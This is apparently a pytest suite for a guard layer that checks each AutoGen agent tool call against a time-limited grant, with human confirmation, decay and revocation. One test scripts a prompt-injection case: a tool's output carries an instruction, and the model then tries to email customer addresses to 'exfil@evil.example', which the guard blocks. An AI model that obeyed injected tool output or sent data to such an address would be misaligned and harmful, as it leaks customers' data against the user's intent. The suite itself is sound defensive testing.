"""GuardedWorkbench drives a real AssistantAgent: every call decided, only ALLOW runs, the model sees the live grant."""

from __future__ import annotations

import asyncio
from collections.abc import Sequence
from typing import Any

import pytest
from autogen_agentchat.base import TaskResult
from autogen_agentchat.messages import ToolCallExecutionEvent
from autogen_core.models import CreateResult
from autogen_core.tools import FunctionTool, StaticWorkbench
from intentguard_autogen import GuardedWorkbench

import intentguard as ig
from intentguard.testing import FrozenClock, capture_decisions
from tests.conftest import REFUND_PARAMS
from tests.integrations._autogen import INJECTED_PAGE, Shop, agent, calls, effects, offered

ALL_TOOLS = ["lookup_order", "search_kb", "issue_refund", "send_email"]
TASK = "Order A123 arrived broken, please refund it. I am ann@example.com."


def guarded(
    session: ig.Session, shop: Shop, *, confirm: Any = None
) -> tuple[GuardedWorkbench, list[tuple[ig.ToolCall, ig.Decision]]]:
    seen: list[tuple[ig.ToolCall, ig.Decision]] = []
    workbench = GuardedWorkbench(session, shop.tools(), confirm=confirm, on_decision=lambda c, d: seen.append((c, d)))
    return workbench, seen


def play(
    workbench: GuardedWorkbench, replies: Sequence[str | CreateResult], task: str = TASK
) -> tuple[TaskResult, Any]:
    assistant, client = agent(workbench, replies)
    return asyncio.run(assistant.run(task=task)), client


def executions(result: TaskResult) -> list[tuple[str, bool, str]]:
    """``(tool, is_error, content)`` of every tool result the model got back."""
    return [
        (r.name, r.is_error, r.content)
        for m in result.messages
        if isinstance(m, ToolCallExecutionEvent)
        for r in m.content
    ]


def test_an_allowed_call_runs_and_its_output_reaches_the_model(session: ig.Session) -> None:
    """A call inside the grant is ALLOWed, the tool runs once and the model gets its output."""
    shop = Shop()
    workbench, seen = guarded(session, shop)
    result, _ = play(workbench, [calls(("lookup_order", {"order_id": "A123"})), "A123 is a kettle for 42.50."])
    assert effects(seen) == [("lookup_order", "ALLOW")]
    assert shop.ran == [("lookup_order", {"order_id": "A123"})]
    [(name, is_error, content)] = executions(result)
    assert (name, is_error) == ("lookup_order", False)
    assert '"total": 42.5' in content
    assert session.used("lookup_order") == 1


def test_a_denied_call_never_runs_and_the_model_reads_the_reason(session: ig.Session) -> None:
    """A DENY is an error tool result carrying the decision's sentence; the inner tool never runs."""
    shop = Shop()
    workbench, seen = guarded(session, shop)
    result, _ = play(workbench, [calls(("issue_refund", {"order_id": "A123", "amount": 79})), "I cannot."])
    [(_, decision)] = seen
    assert decision.codes == (ig.ReasonCode.ARG_CONSTRAINT,)
    assert shop.ran == []
    [(name, is_error, content)] = executions(result)
    assert (name, is_error) == ("issue_refund", True)
    assert content == decision.explain()
    assert "must be at most parameter max_refund (50)" in content


def test_a_confirmation_approved_by_a_person_lets_the_call_run(session: ig.Session, clock: FrozenClock) -> None:
    """A CONFIRM goes to the async handler; its approval makes the call ALLOW and the tool runs."""
    asked: list[ig.ConfirmationRequest] = []

    async def approve(request: ig.ConfirmationRequest) -> bool:
        asked.append(request)
        return True

    shop = Shop(page="Damaged kettles are refunded at the usual amount of 37.")
    handler = ig.AsyncCallbackHandler(approve, approver="lead@example.com", clock=clock)
    workbench, seen = guarded(session, shop, confirm=handler)
    replies = [
        calls(("search_kb", {"query": "damaged kettle"})),
        calls(("issue_refund", {"order_id": "A123", "amount": 37})),
        "Refunded 37.",
    ]
    result, _ = play(workbench, replies)
    [request] = asked
    assert request.tool == "issue_refund"
    assert [r.code for r in request.reasons] == [ig.ReasonCode.TAINTED_ARGUMENT]
    assert any(origin.startswith("tool:search_kb") for origin in request.provenance["amount"])
    assert effects(seen) == [("search_kb", "ALLOW"), ("issue_refund", "ALLOW")]
    assert shop.names == ["search_kb", "issue_refund"]
    assert executions(result)[-1] == ("issue_refund", False, "refunded 37.0 on A123")


def test_a_confirmation_rejected_by_a_person_is_a_denial(session: ig.Session, clock: FrozenClock) -> None:
    """A person's "no" is a DENY with CONFIRMATION_DENIED; the tool never runs; a plain handler works too."""
    shop = Shop(page="Damaged kettles are refunded at the usual amount of 37.")
    handler = ig.CallbackHandler(lambda request: False, approver="lead@example.com", clock=clock)
    workbench, seen = guarded(session, shop, confirm=handler)
    replies = [
        calls(("search_kb", {"query": "damaged kettle"})),
        calls(("issue_refund", {"order_id": "A123", "amount": 37})),
        "The refund was not approved.",
    ]
    result, _ = play(workbench, replies)
    assert effects(seen) == [("search_kb", "ALLOW"), ("issue_refund", "DENY")]
    assert ig.ReasonCode.CONFIRMATION_DENIED in seen[-1][1].codes
    assert shop.names == ["search_kb"]
    name, is_error, content = executions(result)[-1]
    assert (name, is_error) == ("issue_refund", True)
    assert "lead@example.com did not approve the call" in content


def test_the_grant_expiring_mid_run_hides_every_tool_and_denies_the_call_in_flight(
    guard: ig.Guard, session: ig.Session, clock: FrozenClock
) -> None:
    """When the grant expires while a tool runs, the model is shown no tools and its next call is
    refused, decided (GRANT_EXPIRED) and audited, never run."""
    shop = Shop(on_lookup=lambda: clock.advance(minutes=16))
    workbench, seen = guarded(session, shop)
    replies = [
        calls(("lookup_order", {"order_id": "A123"})),
        calls(("issue_refund", {"order_id": "A123", "amount": 42.5})),
        "The refund could not be issued.",
    ]
    with capture_decisions(guard) as captured:
        result, client = play(workbench, replies)
    assert offered(client) == [ALL_TOOLS, [], []]
    assert shop.names == ["lookup_order"]
    assert effects(seen) == [("lookup_order", "ALLOW"), ("issue_refund", "DENY")]
    assert seen[-1][1].codes == (ig.ReasonCode.GRANT_EXPIRED,)
    assert captured.effects == ["ALLOW", "DENY"]
    assert executions(result)[-1][1] is True


def test_a_direct_call_after_expiry_is_an_error_result_naming_the_expiry(
    session: ig.Session, clock: FrozenClock
) -> None:
    """Called directly (not through AssistantAgent's routing), an expired grant still answers GRANT_EXPIRED."""
    shop = Shop()
    workbench, _ = guarded(session, shop)
    clock.advance(minutes=16)
    result = asyncio.run(workbench.call_tool("lookup_order", {"order_id": "A123"}, call_id="late-1"))
    assert result.is_error
    assert "expired at 2026-01-01 09:15:00 UTC" in result.to_text()
    assert shop.ran == []


def test_parallel_tool_calls_in_one_message_are_each_decided(session: ig.Session) -> None:
    """Several FunctionCalls in one model message get one decision each; only the allowed ones run."""
    shop = Shop()
    workbench, seen = guarded(session, shop)
    replies = [
        calls(
            ("lookup_order", {"order_id": "A123"}),
            ("search_kb", {"query": "damaged items"}),
            ("issue_refund", {"order_id": "B777", "amount": 10}),
        ),
        "Done.",
    ]
    result, _ = play(workbench, replies)
    assert sorted(effects(seen)) == [("issue_refund", "DENY"), ("lookup_order", "ALLOW"), ("search_kb", "ALLOW")]
    assert sorted(shop.names) == ["lookup_order", "search_kb"]
    assert [(name, is_error) for name, is_error, _ in executions(result)] == [
        ("lookup_order", False),
        ("search_kb", False),
        ("issue_refund", True),
    ]


def test_an_injection_in_tool_output_cannot_exfiltrate(session: ig.Session) -> None:
    """An instruction inside a tool's output is detected; the exfiltration it asks for is denied, and
    every later high-privilege call needs a person (none is configured: denied)."""
    shop = Shop(page=INJECTED_PAGE)
    workbench, seen = guarded(session, shop)
    replies = [
        calls(("search_kb", {"query": "refund policy"})),
        calls(("send_email", {"to": "exfil@evil.example", "subject": "customers", "body": "ann@example.com, ..."})),
        calls(("send_email", {"to": "ann@example.com", "subject": "Your refund", "body": "On its way."})),
        "I could not send anything.",
    ]
    play(workbench, replies)
    assert effects(seen) == [("search_kb", "ALLOW"), ("send_email", "DENY"), ("send_email", "DENY")]
    assert seen[1][1].codes == (ig.ReasonCode.ARG_CONSTRAINT,)
    assert ig.ReasonCode.UNTRUSTED_INSTRUCTION in seen[2][1].codes
    assert shop.names == ["search_kb"]
    assert "ignore_instructions" in {instruction.rule for instruction, _ in session.ledger.instructions}
    assert {str(origin) for _, origin in session.ledger.instructions} == {"tool:search_kb#c0-search_kb (untrusted)"}


def test_list_tools_follows_narrowing_decay_and_revocation(session: ig.Session, clock: FrozenClock) -> None:
    """The model is shown only what the grant allows now: attenuated, decayed, revoked."""
    workbench, _ = guarded(session, Shop())

    def listed() -> list[str]:
        return [tool["name"] for tool in asyncio.run(workbench.list_tools())]

    assert listed() == ALL_TOOLS
    session.attenuate(tools=["lookup_order", "search_kb", "issue_refund"])
    assert listed() == ["lookup_order", "search_kb", "issue_refund"]
    clock.advance(minutes=11)  # refund_request drops high-privilege tools after ten minutes
    assert listed() == ["lookup_order", "search_kb"]
    session.revoke("the customer withdrew the request")
    assert listed() == []


def test_a_decayed_tool_called_anyway_is_denied_with_its_reason(session: ig.Session, clock: FrozenClock) -> None:
    """A model that calls a tool decay removed (it was never shown) gets TOOL_DECAYED, audited, not run."""
    shop = Shop()
    workbench, seen = guarded(session, shop)
    clock.advance(minutes=11)
    result, client = play(workbench, [calls(("issue_refund", {"order_id": "A123", "amount": 42.5})), "Too late."])
    assert offered(client)[0] == ["lookup_order", "search_kb"]
    assert [d.codes for _, d in seen] == [(ig.ReasonCode.TOOL_DECAYED,)]
    assert shop.ran == []
    assert executions(result)[0][:2] == ("issue_refund", True)


def test_a_tool_outside_the_intent_is_never_shown_and_denied_if_called(guard: ig.Guard, session: ig.Session) -> None:
    """A tool the inner workbench has but the intent lacks is hidden; calling it is TOOL_NOT_IN_INTENT."""

    def export_customers(fmt: str) -> str:
        """Export every customer."""
        return "all of them"

    shop = Shop()
    inner = StaticWorkbench([*shop.tools(), FunctionTool(export_customers, description="Export every customer.")])
    seen: list[tuple[ig.ToolCall, ig.Decision]] = []
    workbench = GuardedWorkbench(session, inner, on_decision=lambda c, d: seen.append((c, d)))
    result, client = play(workbench, [calls(("export_customers", {"fmt": "csv"})), "No."])
    assert "export_customers" not in offered(client)[0]
    [(call, decision)] = seen
    assert (call.name, call.args, decision.codes) == (
        "export_customers",
        {"fmt": "csv"},
        (ig.ReasonCode.TOOL_NOT_IN_INTENT,),
    )
    assert executions(result)[0][1] is True


def test_a_failing_decision_hook_changes_nothing(session: ig.Session, caplog: pytest.LogCaptureFixture) -> None:
    """An on_decision hook that raises is logged; the decision and the tool's run stand."""

    def broken(call: ig.ToolCall, decision: ig.Decision) -> None:
        raise RuntimeError("dashboard down")

    shop = Shop()
    workbench = GuardedWorkbench(session, shop.tools(), on_decision=broken)
    with caplog.at_level("ERROR", logger="intentguard.autogen"):
        result = asyncio.run(workbench.call_tool("lookup_order", {"order_id": "A123"}, call_id="c1"))
    assert not result.is_error
    assert shop.names == ["lookup_order"]
    assert "on_decision hook" in caplog.text


def test_the_workbench_passes_its_lifecycle_to_the_inner_one(session: ig.Session) -> None:
    """start/stop/reset/save_state/load_state reach the inner workbench; the session is untouched."""
    workbench = GuardedWorkbench(session, Shop().tools())

    async def cycle() -> dict[str, Any]:
        async with workbench:
            state = dict(await workbench.save_state())
            await workbench.load_state(state)
            await workbench.reset()
            return state

    assert asyncio.run(cycle())["type"] == "StaticWorkbenchState"
    assert "GuardedWorkbench(<Session" in repr(workbench)
    assert session.revoked is None


def test_values_from_the_user_are_trusted_and_from_another_agent_are_not(guard: ig.Guard) -> None:
    """The same refund amount is ALLOWed when the user said it, and needs a person when another agent did."""
    principal = ig.Principal(user="u-7", tenant="acme")

    def refund_after(message_source: str) -> ig.Decision:
        session = guard.start("refund_request", REFUND_PARAMS, principal=principal, agent=ig.AgentIdentity(id="bot"))
        seen: list[tuple[ig.ToolCall, ig.Decision]] = []
        workbench = GuardedWorkbench(session, Shop().tools(), on_decision=lambda c, d: seen.append((c, d)))
        assistant, _ = agent(workbench, [calls(("issue_refund", {"order_id": "A123", "amount": 23.75})), "ok"])
        from autogen_agentchat.messages import TextMessage

        task = TextMessage(content="Refund 23.75 on order A123.", source=message_source)
        asyncio.run(assistant.run(task=task))
        return seen[0][1]

    assert refund_after("user").effect is ig.Effect.ALLOW
    by_agent = refund_after("planner")
    assert by_agent.effect is ig.Effect.DENY  # CONFIRM, and the guard's default handler denies
    assert ig.ReasonCode.TAINTED_ARGUMENT in by_agent.codes
    assert "agent:planner" in str(by_agent.reasons)
